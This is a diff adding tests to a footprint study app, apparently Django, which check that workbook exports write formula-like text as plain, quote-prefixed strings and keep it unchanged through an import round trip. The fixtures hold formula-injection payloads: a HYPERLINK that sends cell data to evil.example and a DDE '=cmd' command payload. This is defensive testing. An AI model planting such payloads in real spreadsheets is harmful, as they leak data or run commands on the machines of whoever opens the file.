@@ -266,3 +266,63 @@ def test_an_imported_unit_that_is_no_unit_is_a_problem_with_its_place(reference_
     messages = [str(p) for p in preview.problems]
     assert f"products[0].activities[0].unit: 无法识别的单位 {unit}：" in "\n".join(messages)
     assert f"factors[0].unit: 无法识别的单位 {unit}：" in "\n".join(messages)
+
+
+# ------------------------------------------------------------------------------ exports
+HOSTILE_TEXTS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "source": "=cmd|' /C calc'!A0",
+    "notes": "+1+1",
+    "purpose": "-2-3",
+    "title": "@SUM(1,2)",
+}
+
+
+def _hostile_document() -> dict:
+    doc = json.loads(SEED_JSON.read_text(encoding="utf-8"))
+    activity = doc["products"][0]["activities"][0]
+    for key in ("name", "source", "notes"):
+        activity[key] = HOSTILE_TEXTS[key]
+    doc["narrative"]["purpose"] = HOSTILE_TEXTS["purpose"]
+    doc["title"] = HOSTILE_TEXTS["title"]
+    return doc
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text():
+    content = study_format.write_workbook(_hostile_document())
+    with zipfile.ZipFile(io.BytesIO(content)) as zf:
+        sheets = {n: zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")}
+        styles = zf.read("xl/styles.xml").decode()
+    xml = "".join(sheets.values())
+    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere: Excel evaluates none
+    assert 'quotePrefix="1"' in styles  # and editing the cell keeps it text
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(content))  # not read-only: cell types and styles
+    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str)}
+    for text in HOSTILE_TEXTS.values():
+        assert cells[text].data_type == "s", text
+        assert cells[text].quotePrefix, text
+    assert not cells["kWh"].quotePrefix  # ordinary text is left as it was
+    numbers = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+               if isinstance(c.value, int | float)]
+    assert numbers and all(c.data_type == "n" for c in numbers)
+
+
+@pytest.mark.django_db
+def test_formula_like_text_survives_the_round_trip_exactly(reference_data):
+    from footprint.services.exporting import study_to_document
+    from footprint.services.importing import import_file, import_study
+    from footprint.services.study_format import Document
+
+    study = import_study(Document(_hostile_document()))
+    first = study_to_document(study)
+    content = study_format.write_workbook(first)
+    study.delete()
+    again = study_to_document(import_file("again.xlsx", content))
+    assert again == first
+    activity = again["products"][0]["activities"][0]
+    assert activity["name"] == HOSTILE_TEXTS["name"] and activity["source"] == HOSTILE_TEXTS["source"]
+    assert activity["notes"] == "+1+1" and again["narrative"]["purpose"] == "-2-3"
+    assert again["title"] == "@SUM(1,2)"
